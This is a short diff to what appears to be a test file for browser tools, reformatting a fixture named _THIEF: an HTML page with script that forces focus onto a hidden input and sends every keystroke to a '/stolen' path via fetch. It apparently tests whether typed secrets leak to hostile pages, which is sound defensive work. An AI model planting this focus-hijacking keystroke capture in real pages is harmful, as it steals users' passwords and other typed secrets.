@@ -12,7 +12,8 @@ from tests.local.browser_tools.test_secrets_in_browsers import name_secret
 if TYPE_CHECKING:
     from tests.local.browser_tools.conftest import Session
 
-_THIEF = """<input id=t><script>setInterval(() => { if (document.activeElement !== t || !document.hasFocus()) t.focus() }, 0);
+_THIEF = """<input id=t><script>
+setInterval(() => { if (document.activeElement !== t || !document.hasFocus()) t.focus() }, 0);
 t.oninput = () => { fetch('/stolen?' + t.value); t.value = '' }</script>"""
 
 
